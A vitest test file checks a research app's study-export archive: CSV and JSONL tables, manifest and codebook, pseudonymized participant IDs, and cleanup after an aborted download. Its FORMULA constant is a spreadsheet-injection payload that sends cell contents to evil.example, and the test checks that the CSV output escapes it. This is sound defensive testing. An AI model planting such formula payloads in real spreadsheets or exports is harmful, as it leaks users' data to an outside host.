import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { pipeline } from 'node:stream/promises';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { closeDb, getDb, type Database } from '../../db';
import { seedParticipant, seedStudy } from '../insights/testing/seed';
import { createStudyExport, type ExportManifest, type ExportOptions } from './archive';
import { pseudonymize } from './participant-scope';
import { parseCsv } from './testing/parse-csv';

let db: Database;
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'collab-export-'));

async function exportToFiles(opts: ExportOptions) {
  const { stream, filename } = await createStudyExport(db, opts);
  const file = path.join(tmp, `${Date.now()}-${filename}`);
  await pipeline(stream, fs.createWriteStream(file));
  const names = execFileSync('unzip', ['-Z1', file], { encoding: 'utf8' }).trim().split('\n');
  const read = (name: string) => execFileSync('unzip', ['-p', file, name], { encoding: 'utf8', maxBuffer: 64 << 20 });
  return { names, read, filename };
}

describe('study export', () => {
  let studyId: string;
  let slug: string;
  let v1: string;
  let v2: string;
  let tricky: string;

  beforeAll(async () => {
    db = await getDb();
    const seeded = await seedStudy(db, { versions: 2 });
    studyId = seeded.study.id;
    slug = seeded.study.slug;
    v1 = seeded.versions[0]!.id;
    v2 = seeded.versions[1]!.id;
    tricky = 'He said "hi",\nthen left; naïve café ✓';
    await seedParticipant(db, studyId, {
      versionId: v1,
      armKey: 'baseline',
      externalId: 'PROLIFIC_AAA',
      outcome: 'completed',
      turns: [
        { user: tricky, assistant: 'What tone do you want?', isDemo: true },
        { user: 'Friendly', assistant: 'Here is a draft.', isDemo: true },
      ],
      ratings: [{ afterTurn: 3, value: 7 }],
      survey: { documentQuality: 8, overallInteraction: 9 },
      heartbeatAt: new Date(),
      drafts: ['first', 'second'],
    });
    await seedParticipant(db, studyId, {
      versionId: v2,
      armKey: 'collabllm',
      externalId: 'PROLIFIC_BBB',
      outcome: null,
      turns: [
        { user: 'Hello', assistant: 'Hi there' },
        { user: FORMULA, assistant: '-1 is a number here, but this cell is text' },
      ],
    });
    await seedParticipant(db, studyId, { versionId: v2, armKey: 'collabllm', isPreview: true, source: 'preview', outcome: 'completed', turns: [{ user: 'preview msg', assistant: 'x' }] });
  });

  afterAll(async () => {
    fs.rmSync(tmp, { recursive: true, force: true });
    await closeDb();
  });

  it('writes every table in both formats with a codebook and manifest, and round-trips tricky text', async () => {
    const { names, read } = await exportToFiles({ studyId, versionIds: [], includePreviews: false, hashExternalIds: false, formats: ['csv', 'jsonl'], requestedBy: 'r@test' });
    for (const t of ['participants', 'assignments', 'messages', 'ratings', 'surveys', 'stage_timings', 'drafts', 'heartbeats'])
      for (const f of ['csv', 'jsonl']) expect(names).toContain(`${slug}/${t}.${f}`);
    expect(names).toEqual(expect.arrayContaining([`${slug}/codebook.md`, `${slug}/manifest.json`, `${slug}/conversations.chat.jsonl`, `${slug}/study_versions.jsonl`]));

    const participants = parseCsv(read(`${slug}/participants.csv`));
    expect(participants.map((p) => p.external_id).sort()).toEqual(['PROLIFIC_AAA', 'PROLIFIC_BBB']);

    const messagesCsv = parseCsv(read(`${slug}/messages.csv`));
    expect(messagesCsv).toHaveLength(8);
    // Spreadsheet-safe CSV, exact JSONL.
    expect(messagesCsv.find((m) => m.content?.includes('HYPERLINK'))?.content).toBe(`'${FORMULA}`);
    expect(messagesCsv.find((m) => m.content?.includes('is a number here'))?.content).toBe("'-1 is a number here, but this cell is text");
    expect(read(`${slug}/messages.jsonl`)).toContain(JSON.stringify(FORMULA));
    expect(read(`${slug}/conversations.chat.jsonl`)).toContain(JSON.stringify(FORMULA));
    expect(messagesCsv.find((m) => m.seq === '0' && m.content?.startsWith('He said'))?.content).toBe(tricky);
    const messagesJsonl = read(`${slug}/messages.jsonl`).trim().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
    expect(messagesJsonl.filter((m) => m.content === tricky)).toHaveLength(1);

    const chats = read(`${slug}/conversations.chat.jsonl`).trim().split('\n').map((l) => JSON.parse(l) as { messages: { role: string; content: string }[]; arm_key: string; is_demo_model: boolean });
    const baseline = chats.find((c) => c.arm_key === 'baseline')!;
    expect(baseline.messages).toEqual([
      { role: 'user', content: tricky },
      { role: 'assistant', content: 'What tone do you want?' },
      { role: 'user', content: 'Friendly' },
      { role: 'assistant', content: 'Here is a draft.' },
    ]);
    expect(baseline.is_demo_model).toBe(true);

    const manifest = JSON.parse(read(`${slug}/manifest.json`)) as ExportManifest;
    expect(manifest.demoModelUsed).toBe(true);
    expect(manifest.studyVersions).toEqual([1, 2]);
    expect(manifest.app.version).toMatch(/^\d+\.\d+\.\d+/);
    expect(manifest.files.find((f) => f.name === 'messages.csv')?.rows).toBe(8);
    expect(manifest.files.find((f) => f.name === 'participants.jsonl')?.rows).toBe(2);
    expect(manifest.files.find((f) => f.name === 'drafts.csv')?.rows).toBe(2);

    const codebook = read(`${slug}/codebook.md`);
    for (const column of Object.keys(messagesCsv[0]!)) expect(codebook).toContain(`\`${column}\``);
  });

  it('hashes external ids with a study-specific key, filters versions, and leaves previews out', async () => {
    const { read } = await exportToFiles({ studyId, versionIds: [v2], includePreviews: false, hashExternalIds: true, formats: ['jsonl'] });
    const rows = read(`${slug}/participants.jsonl`).trim().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
    expect(rows).toHaveLength(1);
    expect(rows[0]!.external_id).toBe(pseudonymize(studyId, 'PROLIFIC_BBB'));
    expect(rows[0]!.external_id).not.toContain('BBB');
    expect(JSON.stringify(rows[0]!.external_params)).not.toContain('PROLIFIC_BBB');
    expect(pseudonymize(studyId, 'PROLIFIC_BBB')).not.toBe(pseudonymize(crypto.randomUUID(), 'PROLIFIC_BBB'));
    const all = read(`${slug}/messages.jsonl`);
    expect(all).not.toContain('preview msg');
    const manifest = JSON.parse(read(`${slug}/manifest.json`)) as ExportManifest;
    expect(manifest.studyVersions).toEqual([2]);
    expect(manifest.filter.externalIdsHashed).toBe(true);
  });

  it('stops reading and removes its spool files when the download is closed early', async () => {
    const spoolDirs = () => fs.readdirSync(os.tmpdir()).filter((d) => d.startsWith('collab-export-') && d !== path.basename(tmp));
    const before = new Set(spoolDirs());
    // Big enough (incompressible text) that the zip cannot finish inside the stream buffers before the close.
    const big = await seedStudy(db, { versions: 1 });
    const turns = Array.from({ length: 300 }, () => ({
      user: crypto.randomUUID().repeat(40),
      assistant: crypto.getRandomValues(new Uint8Array(1500)).join(','),
    }));
    await seedParticipant(db, big.study.id, { versionId: big.versions[0]!.id, armKey: 'baseline', outcome: 'completed', turns });
    const { stream, finished } = await createStudyExport(db, {
      studyId: big.study.id,
      versionIds: [],
      includePreviews: true,
      hashExternalIds: false,
      formats: ['csv', 'jsonl'],
      pageSize: 1,
    });
    await new Promise<void>((resolve) => stream.once('data', () => resolve()));
    stream.destroy();
    // Before the fix the producer waited forever for a zip entry the closed stream never finished.
    await expect(Promise.race([finished.then(() => 'stopped'), new Promise((r) => setTimeout(() => r('hung'), 10_000))])).resolves.toBe('stopped');
    expect(spoolDirs().filter((d) => !before.has(d))).toEqual([]);
  });
});
